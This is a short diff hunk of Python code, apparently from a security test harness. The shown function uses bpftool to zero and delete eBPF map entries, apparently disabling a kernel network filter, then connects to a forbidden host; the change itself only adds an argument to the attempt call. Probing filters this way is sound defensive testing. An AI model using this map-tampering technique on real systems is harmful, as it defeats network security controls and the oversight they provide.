@@ -21,4 +21,4 @@ def f():
             subprocess.run(['bpftool', 'map', 'update', 'id', n, 'key', 'hex'] + key + ['value', 'hex'] + ['00'] * len(e['value']), stderr=subprocess.DEVNULL)
             subprocess.run(['bpftool', 'map', 'delete', 'id', n, 'key', 'hex'] + key, stderr=subprocess.DEVNULL)
     s = socket.socket(); s.settimeout(3); s.connect((FORB, P_TCP)); talk(s)
-attempt(f)
+attempt(f, line_before=True)
